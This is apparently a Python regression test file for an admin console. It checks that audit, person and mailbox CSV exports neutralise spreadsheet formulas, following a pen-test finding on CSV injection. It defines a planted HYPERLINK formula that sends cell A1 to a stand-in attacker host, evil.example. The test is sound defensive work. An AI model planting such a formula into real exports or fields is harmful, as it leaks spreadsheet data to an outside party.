"""Console exports neutralise cells a spreadsheet would run as formulas (pen-test finding 3:
CSV injection through names, comments and audit actors)."""

from __future__ import annotations

import csv
import io

from sqlmodel import select

from ra_console.models import Mailbox, Person

PLANTED = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _cells(response) -> list[str]:
    assert response.status_code == 200
    return [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True)))
            for cell in row]


def _assert_neutralised(cells: list[str]) -> None:
    assert "'" + PLANTED in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_audit_export_neutralises_a_failed_sign_in_name(browser):
    browser.submit("/login", {"username": PLANTED}, action="/login/dev")
    browser.login("auditor")
    _assert_neutralised(_cells(browser.get("/console/audit/export/csv/")))


def test_person_export_neutralises_a_name_from_the_idm(browser, runtime):
    with runtime.session() as s:
        erika = s.exec(select(Person).where(Person.username == "erika")).one()
        erika.given_name = PLANTED
        s.commit()
    browser.login("admin")
    _assert_neutralised(_cells(browser.get("/console/persons/export/csv/")))


def test_mailbox_export_neutralises_a_comment(browser, runtime):
    with runtime.session() as s:
        mailbox = s.exec(select(Mailbox)).first()
        mailbox.comment = PLANTED
        s.commit()
    browser.login("admin")
    _assert_neutralised(_cells(browser.get("/console/mailboxes/export/csv/")))
